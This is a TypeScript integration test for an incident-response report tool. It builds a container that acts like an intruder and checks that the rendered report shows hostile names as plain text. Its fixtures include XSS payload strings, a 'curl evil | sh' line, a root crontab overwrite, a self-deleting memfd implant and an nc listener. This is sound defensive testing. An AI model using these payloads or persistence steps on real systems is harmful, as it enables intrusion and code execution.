import { execFile } from 'node:child_process';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { pathToFileURL } from 'node:url';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { S3EvidenceStore } from '../../../src/evidence/s3-store.js';
import { createRegistry } from '../../../src/observability/metrics.js';
import { renderHtml } from '../../../src/report/html.js';
import { loadReport } from '../../../src/report/load.js';
import { renderMarkdown } from '../../../src/report/markdown.js';
import { installCrds } from '../../testenv/crds.js';
import { startCluster, type Cluster } from '../../testenv/kube.js';
import { startMinio, type Minio } from '../../testenv/minio.js';
import { startCaseController } from '../../testenv/operator.js';
import { operatorKubeConfig } from '../../testenv/rbac.js';
import { startContainer, type TestContainer } from '../../testenv/runc.js';
import { Workloads } from '../../testenv/workload.js';
import { createPod, createSigningKeySecret, markRunning } from '../collection/helpers.js';
import { implantBinary } from '../collector/implant.js';

const run = promisify(execFile);

/** Where the screenshot stays after the run (gitignored). */
const artifactsDir = resolve(import.meta.dirname, '..', '..', '..', 'test-artifacts', 'report');

// What the intruder names things: if either ran, it would mark the page (dump-dom would show it).
const SCRIPT_ARG = `<script>document.body.setAttribute('data-pwned','script')</script>`;
const IMG_FILE = `"><img src=x onerror=document.body.setAttribute('data-pwned','img')>`;

/**
 * `amber report` on a case sealed by the real pipeline: a real API server, MinIO with Object
 * Lock, a runc container that behaves like an intruder (a deleted binary holding a memfd, a
 * listener, a file dropped in /tmp, hostile names), inline collection, then the report rendered
 * by headless Chromium and read as a reader would see it.
 */
describe('amber report, rendered in Chromium', () => {
  let cluster: Cluster;
  let minio: Minio;
  let c: TestContainer;
  let publicKeyPem: string;
  let operator: Awaited<ReturnType<typeof startCaseController>>;
  let work: string;
  const node = 'node-real';

  beforeAll(async () => {
    [cluster, minio, c] = await Promise.all([
      startCluster(),
      startMinio(),
      startContainer({
        executables: { '/usr/local/bin/implant': implantBinary() },
        command: [
          '/bin/sh',
          '-c',
          [
            `printf 'curl evil | sh\\n' > "/tmp/${IMG_FILE.replaceAll('"', '\\"')}"`,
            'printf "* * * * * root /tmp/x\\n" > /etc/crontab',
            'cp /usr/local/bin/implant /tmp/.implant && /tmp/.implant &',
            // Deleted once it runs (its memfd is fd 3): the binary then exists only in memory.
            'while [ ! -e /proc/$!/fd/3 ]; do sleep 0.05; done; rm /tmp/.implant',
            'nc -l -p 8080 &',
            // A shell whose argv and name are markup.
            `sh -c 'printf "%s" "<b>x</b>" > /proc/$$/comm; while :; do sleep 600; done' "${SCRIPT_ARG}" &`,
            'touch /ready; exec sleep 600',
          ].join('\n'),
        ],
      }),
    ]);
    await c.waitForFile('/ready');
    const admin = cluster.kubeConfig();
    await installCrds(admin);
    const w = new Workloads(admin);
    await w.core.createNode({
      body: { metadata: { name: node, labels: { 'kubernetes.io/hostname': node } } },
    });
    await w.namespace('shop');
    await operatorKubeConfig(cluster);
    ({ publicKeyPem } = await createSigningKeySecret(admin));
    await createPod(admin, 'shop', 'victim', node);
    await markRunning(admin, 'shop', 'victim', `runc://${c.id}`);
    operator = await startCaseController(await operatorKubeConfig(cluster), {
      collection: {
        mode: 'inline',
        evidence: { credentials: { accessKeyId: minio.accessKey, secretAccessKey: minio.secretKey } },
        inline: { hostReferencePid: process.pid, runtimeRoots: { runc: c.stateRoot } },
        snapshotterRoots: c.layerRoots,
      },
    });
    await w.createCase('case-report', {
      target: { namespace: 'shop', pod: 'victim' },
      reason: 'test: an implant ran from /tmp and deleted itself',
      alert: {
        rule: 'Drop and execute new binary in container',
        priority: 'Critical',
        time: new Date().toISOString(),
        source: 'syscall',
      },
      evidence: {
        store: { type: 's3', bucket: minio.bucket, endpoint: minio.endpoint, prefix: 'amber/' },
        retention: { mode: 'GOVERNANCE', days: 1 },
      },
    });
    await w.waitForPhase('case-report', 'Sealed', 90_000);
    work = mkdtempSync(join(tmpdir(), 'amber-report-it-'));
  });
  afterAll(async () => {
    await operator?.stop();
    await c?.stop();
    await minio?.stop();
    await cluster?.stop();
    if (work) rmSync(work, { recursive: true, force: true });
  });

  it('verifies, renders, and shows a reader the evidence with hostile names as plain text', async () => {
    const store = new S3EvidenceStore({
      client: minio.client(),
      bucket: minio.bucket,
      prefix: 'amber',
      registry: createRegistry(),
    });
    const location = store.caseLocation('case-report');
    const { model, verify } = await loadReport(location, {
      publicKeyPem,
      s3: {
        endpoint: minio.endpoint,
        region: minio.region,
        forcePathStyle: true,
        credentials: { accessKeyId: minio.accessKey, secretAccessKey: minio.secretKey },
      },
    });
    expect(verify.ok).toBe(true);
    const htmlFile = join(work, 'case-report.html');
    writeFileSync(htmlFile, renderHtml(model));
    writeFileSync(join(work, 'case-report.md'), renderMarkdown(model));

    mkdirSync(artifactsDir, { recursive: true });
    const screenshot = join(artifactsDir, 'case-report.png');
    const chromium = async (...args: string[]) =>
      run(
        'chromium',
        [
          '--headless',
          '--no-sandbox',
          '--disable-gpu',
          '--disable-background-networking',
          '--no-first-run',
          '--disable-component-update',
          '--disable-sync',
          `--user-data-dir=${mkdtempSync(join(work, 'chromium-'))}`,
          ...args,
          pathToFileURL(htmlFile).href,
        ],
        { maxBuffer: 64 * 1024 * 1024, timeout: 60_000 },
      );
    const { stdout: dom } = await chromium('--dump-dom');
    await chromium(`--screenshot=${screenshot}`, '--window-size=1400,3200', '--hide-scrollbars');
    writeFileSync(join(artifactsDir, 'case-report.html'), renderHtml(model));
    console.log(`amber report: screenshot ${screenshot}`);

    // Nothing the suspect wrote became markup: no element it named exists, nothing it would run ran.
    expect(dom).not.toMatch(/<body[^>]*data-pwned/);
    expect(dom).not.toMatch(/<img|<script|<b>/i);
    expect(dom).toContain('&lt;script&gt;document.body.setAttribute');
    const text = dom
      .replace(/<style>[\s\S]*?<\/style>/, '')
      .replace(/<[^>]+>/g, ' ')
      .replaceAll('&lt;', '<')
      .replaceAll('&gt;', '>')
      .replaceAll('&quot;', '"')
      .replaceAll('&#39;', "'")
      .replaceAll('&amp;', '&')
      .replace(/\s+/g, ' ');

    // What a reader sees, top to bottom.
    expect(text).toMatch(/Amber case case-report .* VERIFIED: signature valid/);
    expect(text.indexOf('VERIFIED')).toBeLessThan(text.indexOf('Target'));
    expect(text).toContain('shop/victim');
    expect(text).toContain(node);
    expect(text).toMatch(/alert → contained \d/);
    expect(text).toMatch(/contained → collected \d/);
    expect(text).toMatch(/collected → sealed \d/);
    expect(text).toContain(SCRIPT_ARG); // the command line, as text
    expect(text).toContain('<b>x</b>'); // the process name it gave itself
    // A shell started by the container's main process stands out; busybox applets are no shells.
    expect(text).toMatch(/<b>x<\/b> \/bin\/busybox sh -c .* shell; unusual parent/);
    expect(text).toMatch(/└ nc \/bin\/busybox nc -l -p 8080 network tool /);
    expect(text).toMatch(/└ sleep \/bin\/busybox sleep 600 Sockets/); // nothing stands out
    expect(text).toMatch(
      /\/tmp\/\.implant .*executable deleted from disk; runs from \/tmp; holds memfd fd 3/,
    );
    expect(text).toMatch(/:8080 \S+ LISTEN nc \(\d+\)/);
    expect(text).toContain(`/tmp/${IMG_FILE}`);
    expect(text).toMatch(/(added|changed) \/etc\/crontab file .* cron; system configuration/);
    // Suspicious places first: the crontab comes before the dropped /tmp file.
    expect(text.indexOf('/etc/crontab')).toBeLessThan(text.indexOf(`/tmp/${IMG_FILE}`));
    expect(text).toMatch(/Gaps .*logs of main \(current\)/);
    expect(text).toMatch(/Artifacts .*orchestrator\/pod\.yaml ok .* GOVERNANCE until/);
  });
});
